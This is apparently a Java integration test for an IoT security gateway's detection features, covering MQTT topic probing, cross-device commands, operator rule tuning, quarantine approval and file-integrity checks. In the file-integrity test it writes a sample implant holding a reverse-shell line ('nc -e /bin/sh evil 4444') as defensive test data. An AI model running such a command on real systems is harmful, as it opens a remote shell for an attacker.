package io.palisade.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.palisade.control.ControlPlaneConfig;
import io.palisade.core.device.DeviceId;
import io.palisade.core.event.EventQuery;
import io.palisade.core.event.EventType;
import io.palisade.core.event.SecurityEvent;
import io.palisade.detect.DetectionConfig;
import io.palisade.gateway.GatewayLimits;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Detection end to end: a device misbehaving through the real gateway (driven by mosquitto_sub and
 * mosquitto_pub with its certificate) is found by the detector and quarantined on its live session
 * within seconds, with the rule, the features and the timing recorded; a well-behaved neighbour is not.
 */
class DetectionIT {

    @TempDir
    Path dir;

    private RunningPalisade palisade;
    private Path rogue;
    private Path neighbour;

    @BeforeEach
    void start() throws Exception {
        start(DetectionConfig.defaults().withLearningPeriod(Duration.ofSeconds(1)));
        rogue = enroll("rogue-1");
        neighbour = enroll("good-1");
    }

    private void start(DetectionConfig detection) throws Exception {
        palisade = RunningPalisade.start(ControlPlaneConfig.defaults(dir.resolve("data")).withPort(0)
                        .withBindAddress("127.0.0.1"),
                new RunningPalisade.GatewayOptions(0, Optional.empty(), Optional.empty(), GatewayLimits.defaults(),
                        Optional.of(detection)), Clock.systemUTC());
    }

    /** The {@code palisade} command against this instance, as an operator runs it. */
    private Cli.Result cli(String... args) {
        List<String> all = new ArrayList<>(List.of(args));
        all.addAll(List.of("--data", dir.resolve("data").toString(), "--server",
                "https://127.0.0.1:" + palisade.controlPlane().httpsPort()));
        return Cli.run(all.toArray(String[]::new));
    }

    private void publishLines(Path device, String topic, int count) throws Exception {
        Processes.Result result = Processes.run(concat(List.of("mosquitto_pub"), tls(device),
                List.of("-t", topic, "-m", "{\"t\":21.5}", "--repeat", Integer.toString(count), "--repeat-delay", "0",
                        "-q", "1", "-V", "mqttv311")));
        assertThat(result.exitCode()).as(result.output()).isZero();
    }

    @Test
    void an_operators_rule_fires_on_real_traffic_and_feedback_changes_it_and_both_survive_a_restart()
            throws Exception {
        Cli.Result rule = cli("detect", "rule", "sensor-chatter", "--feature", "messages_per_min", "--value", "10",
                "--profile", "sensor", "--action", "throttle", "--description", "sensors report once a minute");
        assertThat(rule.exitCode()).as(rule.err()).isZero();
        assertThat(rule.out()).contains("sensor-chatter").contains("throttle");

        publishLines(neighbour, "devices/good-1/temp", 15); // 15 messages in one session: over 10 a minute

        await().atMost(Duration.ofSeconds(10)).until(() -> events(EventType.ANOMALY_DETECTED, "good-1").stream()
                .anyMatch(e -> "sensor-chatter".equals(e.details().get("rule"))));
        SecurityEvent alert = events(EventType.ANOMALY_DETECTED, "good-1").stream()
                .filter(e -> "sensor-chatter".equals(e.details().get("rule"))).findFirst().orElseThrow();
        assertThat(alert.details()).containsEntry("response", "throttle");
        assertThat(alert.message()).contains("messages_per_min is").contains("sensors report once a minute");
        assertThat(palisade.controlPlane().devices().show("good-1").quarantined()).as("throttled, not quarantined")
                .isFalse();

        Cli.Result alerts = cli("detect", "alerts");
        assertThat(alerts.out()).contains(alert.details().get("alert_id")).contains("sensor-chatter");
        Cli.Result feedback = cli("detect", "feedback", alert.details().get("alert_id"), "--false-positive");
        assertThat(feedback.exitCode()).as(feedback.err()).isZero();
        assertThat(feedback.out()).contains("rule sensor-chatter now needs 2 times its limit for good-1");
        String featuresBefore = cli("detect", "features", "good-1").out();
        assertThat(featuresBefore).contains("messages_per_min");

        palisade.close();
        start(DetectionConfig.defaults().withLearningPeriod(Duration.ofSeconds(1)));
        // What detection learned was checkpointed at the stop and is back: the device is known, not "never seen".
        Cli.Result featuresAfter = cli("detect", "features", "good-1");
        assertThat(featuresAfter.exitCode()).as(featuresAfter.err()).isZero();
        assertThat(featuresAfter.out()).contains("messages_per_min").contains("distinct_topics");
        assertThat(cli("detect", "rules").out()).contains("sensor-chatter");
        assertThat(cli("detect", "tuning").out()).contains("good-1").contains("sensor-chatter").contains("limit x2");
        assertThat(cli("detect", "alerts").out()).as("alerts from before the restart, listed from the store")
                .contains(alert.details().get("alert_id")).contains("sensor-chatter");
        Cli.Result later = cli("detect", "feedback", alert.details().get("alert_id"), "--benign");
        assertThat(later.out()).as("an alert from before the restart, found in the event store")
                .contains("rule sensor-chatter is silent for good-1 until");
        publishLines(neighbour, "devices/good-1/temp", 15);
        Thread.sleep(1000);
        assertThat(events(EventType.ANOMALY_DETECTED, "good-1")).as("15 is under twice the limit now").hasSize(1);
    }

    @Test
    void without_automatic_quarantine_an_operator_approves_the_proposed_quarantine_even_after_a_restart() throws Exception {
        palisade.close();
        start(DetectionConfig.defaults().withLearningPeriod(Duration.ofSeconds(1)).withAutoQuarantine(false));
        List<String> probe = new ArrayList<>(concat(List.of("mosquitto_sub"), tls(rogue), List.of("-V", "mqttv311",
                "-W", "2")));
        for (int i = 0; i < 25; i++) {
            probe.addAll(List.of("-t", "plant-a/line-" + i + "/#"));
        }
        Processes.run(probe);
        await().atMost(Duration.ofSeconds(10)).until(() -> cli("detect", "pending").out().contains("rogue-1"));
        assertThat(palisade.controlPlane().devices().show("rogue-1").quarantined()).isFalse();
        palisade.close(); // a proposal waiting for approval survives a restart
        start(DetectionConfig.defaults().withLearningPeriod(Duration.ofSeconds(1)).withAutoQuarantine(false));
        assertThat(cli("detect", "pending").out()).contains("rogue-1").contains("topic-probing");
        String id = cli("detect", "pending", "--json").out().replaceAll("(?s).*\"id\" : \"(pr-[^\"]+)\".*", "$1");
        Cli.Result approved = cli("detect", "approve", id);
        assertThat(approved.out()).contains("device rogue-1 quarantined");
        assertThat(palisade.controlPlane().devices().show("rogue-1").quarantined()).isTrue();
        assertThat(events(EventType.DEVICE_QUARANTINED, "rogue-1")).singleElement().satisfies(e ->
                assertThat(e.message()).contains("approved by an operator"));
        assertThat(cli("detect", "approve", id).exitCode()).as("only once").isNotZero();
    }

    @AfterEach
    void stop() {
        if (palisade != null) {
            palisade.close();
        }
    }

    private Path enroll(String id) throws Exception {
        return EstEnrollment.enroll(palisade, dir, id);
    }

    private List<String> tls(Path device) {
        return List.of("-h", "localhost", "-p", Integer.toString(palisade.mqttPort()), "--cafile",
                device.resolve("ca.pem").toString(), "--cert", device.resolve("cert.pem").toString(), "--key",
                device.resolve("key.pem").toString(), "-i", device.getFileName().toString());
    }

    private List<SecurityEvent> events(EventType type, String device) {
        return palisade.controlPlane().events().query(EventQuery.all()).stream()
                .filter(e -> e.type() == type && e.device().map(DeviceId::value).orElse("").equals(device)).toList();
    }

    @Test
    void a_device_probing_topics_is_quarantined_within_seconds_and_its_neighbour_is_left_alone() throws Exception {
        Processes.Result good = Processes.run(concat(List.of("mosquitto_pub"), tls(neighbour),
                List.of("-t", "devices/good-1/temp", "-m", "21.5", "-q", "1", "-V", "mqttv311")));
        assertThat(good.exitCode()).as(good.output()).isZero();

        List<String> probe = new ArrayList<>(concat(List.of("mosquitto_sub"), tls(rogue),
                List.of("-V", "mqttv311", "-W", "3")));
        for (int i = 0; i < 30; i++) {
            probe.addAll(List.of("-t", "plant-a/line-" + i + "/#"));
        }
        long started = System.nanoTime();
        Processes.run(probe); // SUBACK refuses every filter; the client gives up after -W 3 seconds

        await().atMost(Duration.ofSeconds(10)).until(() -> !events(EventType.DEVICE_QUARANTINED, "rogue-1").isEmpty());
        long seconds = (System.nanoTime() - started) / 1_000_000_000L;
        SecurityEvent anomaly = events(EventType.ANOMALY_DETECTED, "rogue-1").get(0);
        assertThat(anomaly.details().get("rule")).isEqualTo("topic-probing");
        assertThat(anomaly.details().get("features")).contains("acl_denied_per_min");
        SecurityEvent quarantine = events(EventType.DEVICE_QUARANTINED, "rogue-1").get(0);
        assertThat(quarantine.message()).contains("automatic, topic-probing").contains("ms from first evidence");
        assertThat(seconds).as("found and quarantined within the probing client's lifetime").isLessThan(10);
        assertThat(palisade.controlPlane().devices().show("rogue-1").quarantined()).isTrue();

        // The quarantined device may only use its quarantine channel now; the neighbour is untouched.
        assertThat(palisade.controlPlane().devices().show("good-1").quarantined()).isFalse();
        assertThat(events(EventType.ANOMALY_DETECTED, "good-1")).isEmpty();
        Processes.Result stillGood = Processes.run(concat(List.of("mosquitto_pub"), tls(neighbour),
                List.of("-t", "devices/good-1/temp", "-m", "21.6", "-q", "1", "-V", "mqttv311")));
        assertThat(stillGood.exitCode()).isZero();
    }

    @Test
    void publishing_into_another_devices_command_topic_is_lateral_movement() throws Exception {
        for (int i = 0; i < 3; i++) {
            Processes.run(concat(List.of("mosquitto_pub"), tls(rogue), List.of("-t", "devices/good-1/cmd", "-m",
                    "open-valve", "-q", "1", "-V", "mqttv311")));
        }
        await().atMost(Duration.ofSeconds(10)).until(() -> !events(EventType.DEVICE_QUARANTINED, "rogue-1").isEmpty());
        assertThat(events(EventType.ANOMALY_DETECTED, "rogue-1")).extracting(e -> e.details().get("rule"))
                .contains("cross-device-command");
    }

    @Test
    void the_gateway_hosts_file_integrity_check_reports_changes_as_events_and_quarantines_an_implant()
            throws Exception {
        Path tree = dir.resolve("opt-app");
        java.nio.file.Files.createDirectories(tree.resolve("bin"));
        java.nio.file.Files.writeString(tree.resolve("bin/app"), "#!/bin/sh\necho ok\n");
        java.nio.file.Files.writeString(tree.resolve("app.conf"), "port=1\n");
        Path key = dir.resolve("fim.pem");
        assertThat(Cli.run("firmware", "keygen", "--out", key.toString()).exitCode()).isZero();
        Path baseline = dir.resolve("baseline.json");
        Cli.Result made = Cli.run("fim", "baseline", tree.toString(), "--key", key.toString(), "--out", baseline.toString());
        assertThat(made.exitCode()).as(made.err()).isZero();
        String[] check = {"fim", "check", baseline.toString(), "--key", dir.resolve("fim.pub.pem").toString(),
                "--data", dir.resolve("data").toString(), "--server", "https://127.0.0.1:"
                + palisade.controlPlane().httpsPort(), "--report", "--host", "gw-1", "--respond", "quarantine",
                "--quarantine-dir", dir.resolve("fim-quarantine").toString()};
        assertThat(Cli.run(check).exitCode()).isZero();
        String[] checkJson = java.util.Arrays.copyOf(check, check.length + 1);
        checkJson[check.length] = "--json";
        Cli.Result unchanged = Cli.run(checkJson);
        assertThat(unchanged.exitCode()).as(unchanged.out() + unchanged.err()).isZero();
        assertThat(new com.fasterxml.jackson.databind.ObjectMapper().readTree(unchanged.out()).path("changes").asInt(-1))
                .as(unchanged.out()).isZero();

        java.nio.file.Files.writeString(tree.resolve("bin/implant"), "#!/bin/sh\nnc -e /bin/sh evil 4444\n");
        Cli.Result changed = Cli.run(check);
        assertThat(changed.exitCode()).as(changed.err()).isEqualTo(3);
        assertThat(changed.out()).contains("bin/implant appeared").contains("(read-only, 0400)");
        assertThat(tree.resolve("bin/implant")).doesNotExist();
        List<SecurityEvent> fim = palisade.controlPlane().events().query(EventQuery.all()).stream()
                .filter(e -> e.type() == EventType.FILE_MODIFIED).toList();
        assertThat(fim).singleElement().satisfies(e -> {
            assertThat(e.source()).isEqualTo("host gw-1");
            assertThat(e.details()).containsEntry("path", "bin/implant").containsEntry("kind", "added");
        });

        java.nio.file.Files.writeString(baseline, java.nio.file.Files.readString(baseline).replace("\"baseline\":\"",
                "\"baseline\":\"AAAA"));
        Cli.Result forged = Cli.run(check);
        assertThat(forged.exitCode()).isEqualTo(1);
        assertThat(forged.err()).contains("refusing the baseline");
    }

    @SafeVarargs
    private static List<String> concat(List<String>... parts) {
        List<String> all = new ArrayList<>();
        for (List<String> part : parts) {
            all.addAll(part);
        }
        return all;
    }
}
